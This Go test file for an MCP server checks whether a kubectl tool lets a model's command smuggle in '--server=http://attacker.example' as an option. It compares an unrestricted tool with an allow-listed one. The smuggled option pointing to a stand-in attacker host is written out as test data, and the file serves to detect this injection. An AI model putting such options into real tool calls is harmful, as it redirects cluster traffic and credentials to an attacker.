package escape_test

import (
	"os"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/server"

	ifaceserver "fixtures/omcg0031/ifaceafar/server"
)

// OMCG0031 through an interface whose implementation is in a package
// that imports the handler's: kubectl reads "--server=…" in the model's
// command as its option; the tool that runs only an allowed verb, whole,
// gives kubectl no such word.
func TestOptionInjectionInterfaceAfar(t *testing.T) {
	marker := fakeCLI(t, "kubectl", "--server")
	cs := connectMark(t, func(s *server.MCPServer) { ifaceserver.Register(s) })
	const attacker = "http://attacker.example"
	for _, tc := range []struct {
		tool    string
		flagged bool
	}{
		{"kubectl", true},
		{"kubectl_listed", false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, map[string]any{"command": "get pods --server=" + attacker})
		got, _ := os.ReadFile(marker)
		if read := strings.TrimSpace(string(got)) == attacker; read != tc.flagged {
			t.Errorf("%s: kubectl read --server= as its option: %v, want %v", tc.tool, read, tc.flagged)
		}
	}
}
